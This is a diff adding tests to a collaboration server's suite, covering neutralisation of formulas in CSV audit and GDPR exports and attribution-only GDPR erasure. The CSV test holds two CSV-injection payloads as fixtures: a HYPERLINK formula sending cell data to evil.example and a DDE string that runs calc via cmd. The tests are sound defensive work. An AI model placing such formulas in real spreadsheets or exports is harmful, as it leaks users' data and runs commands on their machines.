@@ -222,6 +222,44 @@ async def test_audit_query_filters_and_export_json_and_csv(
         assert [e["resource"] for e in exports] == ["audit", "audit"]
 
 
+async def test_csv_exports_neutralise_formulas(server: Server, clients: Clients) -> None:
+    """A User-Agent or a comment id chosen by a client never reaches an owner's spreadsheet as
+    a formula (OWASP CSV injection): such cells start with ``'``; the JSON exports keep them."""
+    link = '=HYPERLINK("http://evil.example/?"&A1,"help")'
+    command = "=1+cmd|' /C calc'!A0"
+    with trio.fail_after(20):
+        alice = await clients.join("alice")
+        await alice.request("comment_add", {"comment": {"id": command, "text": "@SUM(1+1)"}})
+        headers = {**bearer(server, "olga", "owner"), "User-Agent": link}
+        chain = {"strategies": ["merge", "priority"]}
+        assert (await call(server, "PUT", "/api/projects/p1/strategies", chain,
+                           headers)).status_code == 200  # fmt: skip
+        owner = bearer(server, "olga", "owner")
+        audit = await call(server, "POST", "/api/collaboration/audit/export", {"format": "csv"},
+                           owner)  # fmt: skip
+        gdpr = await call(server, "POST", "/api/collaboration/gdpr/export",
+                          {"userId": "alice", "format": "csv"}, owner)  # fmt: skip
+        as_json = await call(server, "POST", "/api/collaboration/gdpr/export",
+                             {"userId": "alice"}, owner)  # fmt: skip
+    audit_rows = list(csv.DictReader(io.StringIO(audit.text)))
+    agents = {r["userAgent"] for r in audit_rows}
+    assert "'" + link in agents and link not in agents
+    gdpr_rows = list(csv.reader(io.StringIO(gdpr.text)))
+    cells = [cell for row in gdpr_rows for cell in row]
+    assert "'" + command in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+    assert as_json.json()["comments"][0]["id"] == command  # the data itself is unchanged
+
+
+def test_csv_safe_cells() -> None:
+    from crealia._http import csv_safe
+
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert csv_safe(start + "1") == "'" + start + "1"
+    assert [csv_safe(v) for v in ("ok", "", "a=b", -3, 2.5, None)] == ["ok", "", "a=b", -3, 2.5,
+                                                                      None]  # fmt: skip
+
+
 async def test_audit_retention_deletes_old_events(server: Server) -> None:
     server.hub.audit.record("join", user_id="old", project_id="p1")
     server.hub.audit.record("join", user_id="new", project_id="p1")
@@ -459,6 +497,72 @@ async def test_gdpr_erasure_deletes_content_and_pseudonymizes_the_rest(
         assert event["ip_address"] == "" and event["user_agent"] == ""
     assert erasures[0]["userId"] == "olga"
     assert erasures[0]["resource"] == f"user:{pseudonym}"
+
+
+async def test_gdpr_erasure_rewrites_attribution_never_content(
+    server: Server, clients: Clients
+) -> None:
+    """The issue's scenario: erasing user "42" must not touch bob's element "42", a prop named
+    "42" nor a value "42"; bob, resuming with the epoch he had, gets the rewritten history as a
+    snapshot (never a replay of nothing over a stale document)."""
+    with trio.fail_after(30):
+        mine = await clients.join("42", role="editor")
+        bob = await clients.join("bob", role="editor")
+        epoch = bob.welcome["epoch"]
+        ours = {"op": "insert", "element_id": "42", "element_type": "clip",
+                "props": {"42": "bob's prop named 42", "title": "42", "start": 42}}  # fmt: skip
+        ack = await bob.request("timeline_change", {"change_id": "42", "changes": [ours]})
+        assert ack["type"] == "ack"
+        theirs = {"op": "insert", "element_id": "clip-of-42", "element_type": "clip",
+                  "props": {"title": "by 42"}}  # fmt: skip
+        await mine.request("timeline_change", {"change_id": "c42", "changes": [theirs]})
+        await mine.request("comment_add", {"comment": {"id": "m42", "text": "42's own words"}})
+        bobs_comment = {"id": "42", "text": "42", "element_id": "42"}
+        await bob.request("comment_add", {"comment": bobs_comment})
+        # A conflict between them, settled by a strategy: its attribution names 42.
+        stale = {"op": "set", "element_id": "clip-of-42", "prop": "title", "value": "42",
+                 "base": 1}  # fmt: skip
+        bob_moves = {"op": "set", "element_id": "clip-of-42", "prop": "title", "value": "bob's",
+                     "base": 2}  # fmt: skip
+        await bob.request("timeline_change", {"change_id": "b1", "changes": [bob_moves]})
+        await mine.request("timeline_change", {"change_id": "c43", "changes": [stale]})
+        await bob.expect_type("conflict_resolved")
+        head = (await call(server, "GET", "/api/projects/p1/snapshot", None,
+                           bearer(server, "bob", "viewer"))).json()  # fmt: skip
+        with sqlite3.connect(server.store.path) as conn:
+            bobs_before = conn.execute(
+                "SELECT seq, kind, user_id, payload, effects FROM events WHERE user_id = 'bob' "
+                "ORDER BY seq").fetchall()  # fmt: skip
+        response = await call(server, "POST", "/api/collaboration/gdpr/erase", {"userId": "42"},
+                              bearer(server, "olga", "owner"))  # fmt: skip
+        assert response.status_code == 200, response.text
+        pseudonym = response.json()["pseudonym"]
+        assert await bob.closed() == 1011
+        back = await clients.join("bob", role="editor", resume=head["seq"], epoch=epoch)
+    assert back.welcome["epoch"] != epoch
+    assert "replayed" not in back.welcome, "a rewritten history is never replayed"
+    snapshot = back.welcome["snapshot"]
+    assert snapshot["elements"]["42"] == head["elements"]["42"] == {
+        "type": "clip", "props": {"42": "bob's prop named 42", "title": "42", "start": 42}
+    }  # fmt: skip
+    assert snapshot["versions"]["42"] == head["versions"]["42"]
+    assert snapshot["elements"]["clip-of-42"] == head["elements"]["clip-of-42"]
+    with sqlite3.connect(server.store.path) as conn:
+        bobs_after = conn.execute(
+            "SELECT seq, kind, user_id, payload, effects FROM events WHERE user_id = 'bob' "
+            "ORDER BY seq").fetchall()  # fmt: skip
+        authors = {row[0] for row in conn.execute("SELECT DISTINCT user_id FROM events")}
+        change_42 = conn.execute(
+            "SELECT user_id FROM changes WHERE change_id = '42'").fetchone()  # fmt: skip
+        comments = conn.execute("SELECT comment_id, user_id, text FROM comments").fetchall()
+        conflict = json.loads(conn.execute("SELECT data FROM conflicts").fetchone()[0])
+    assert bobs_after == bobs_before, "bob's events are byte for byte what they were"
+    assert authors == {"bob", pseudonym}
+    assert change_42 == ("bob",)
+    assert comments == [("42", "bob", "42")]
+    assert {conflict["current"]["user_id"], conflict["incoming"]["user_id"]} == {"bob", pseudonym}
+    assert conflict["incoming"]["value"] == "42"  # the value 42 wrote is content: it stays
+    assert set(conflict["roles"]) <= {"bob", pseudonym}
 
 
 async def test_cross_site_websocket_attempts_are_audited_and_alerted(
